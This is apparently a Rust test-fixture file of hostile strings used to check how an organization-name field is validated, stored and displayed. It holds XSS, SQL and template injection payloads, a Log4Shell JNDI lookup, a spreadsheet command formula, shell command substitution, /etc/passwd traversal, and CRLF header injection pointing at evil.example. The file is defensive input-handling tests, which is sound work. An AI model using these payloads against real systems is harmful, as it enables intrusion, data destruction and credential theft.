//! Hostile texts, for the form and the API alike.

/// Texts that an organization may have as its name, and that pages show unchanged.
pub const SHOWN: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "'><svg/onload=alert(1)>",
    "</bdi></dd></dl><svg/onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title></head><body onload=alert(1)>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "&lt;b&gt; &#x3c;script&#x3e;",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<style>*{display:none}</style>",
    "<iframe src=//evil.example></iframe>",
    "<base href=//evil.example/>",
    "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"aa\">]><l>&a;</l>",
    "javascript:alert(1)",
    "'; DROP TABLE applications; --",
    "' OR '1'='1",
    "SET #status = :accepted REMOVE reference",
    "attribute_not_exists(pk) OR #status = :draft",
    "{{ site.name }}{% raw %}",
    "{{ 641 * 7 }} {% include 'base.html' %}",
    "${641*7} #{641*7} <%= 641*7 %> @(641*7)",
    "${jndi:ldap://example.com/a}",
    "=cmd|' /C calc'!A0",
    "`id`; $(id) && id",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie:%20a=b %s%n",
    "%s%s%s%n%x{0}%@",
    "photo\u{202e}gnp.exe",
    "x\u{2066}admin\u{2069}\u{2067}x",
    "Zalgo\u{315}\u{31b}\u{321}\u{322}\u{327}\u{328}",
    "👩‍🔬🧪🏳️‍🌈 🏴\u{200d}☠\u{fe0f} 👩\u{200d}👩\u{200d}👧\u{200d}👦",
    "شركة البحوث السريرية ﷺ﷽",
    "Аcrо",
    "Ｆｕｌｌｗｉｄｔｈ ＜ｓｃｒｉｐｔ＞",
    "İstanbul ı ŞŞ ß ﬃ",
    "zero\u{200b}width\u{200d}joined\u{feff}text",
    "a\u{fffe}\u{ffff}\u{10ffff}",
    "\u{fffd}",
    "a\u{e000}",
];

/// Texts that are stored with other space.
pub const NORMALIZED: &[&str] = &[
    "Ada\r\nBcc: everyone@example.com\r\n\r\nHello",
    "Ada\r\nSet-Cookie: a=b\r\nLocation: //evil.example",
    "\u{feff}a byte order mark before all else",
    "line\u{2028}separator and paragraph\u{2029}separator",
];

/// Texts that cannot be a name.
pub const REFUSED: &[&str] = &[
    "a\0b",
    "\u{1b}[2J\u{1b}[31mred on a terminal",
    "bell \u{7} backspace \u{8} delete \u{7f}",
    "a\u{9b}31m",
    "\u{1f}\u{1e}\u{1d} separators of files and groups",
    "\u{200b}\u{202e}\u{feff}",
    "\u{3164}\u{115f}\u{2800}",
    "\u{e0041}\u{e0042}",
    "\u{301}\u{301}",
    " \t\r\n\u{a0}",
    "",
];

/// Returns every text, with whether it can be a name.
pub fn texts() -> Vec<(String, bool)> {
    let accepted = SHOWN.iter().chain(NORMALIZED).map(|text| ((*text).to_owned(), true));
    let refused = REFUSED.iter().map(|text| ((*text).to_owned(), false));
    let long = [("語".repeat(200), true), ("語".repeat(201), false), ("x".repeat(60_000), false)];
    let longer = ["語".repeat(2001), format!("e{}", "\u{301}".repeat(500)), "<b>".repeat(700)];
    accepted.chain(refused).chain(long).chain(longer.map(|text| (text, false))).collect()
}

/// Returns a text as pages show it: with single spaces.
pub fn shown(text: &str) -> String {
    text.trim_start_matches('\u{feff}').split_whitespace().collect::<Vec<_>>().join(" ")
}
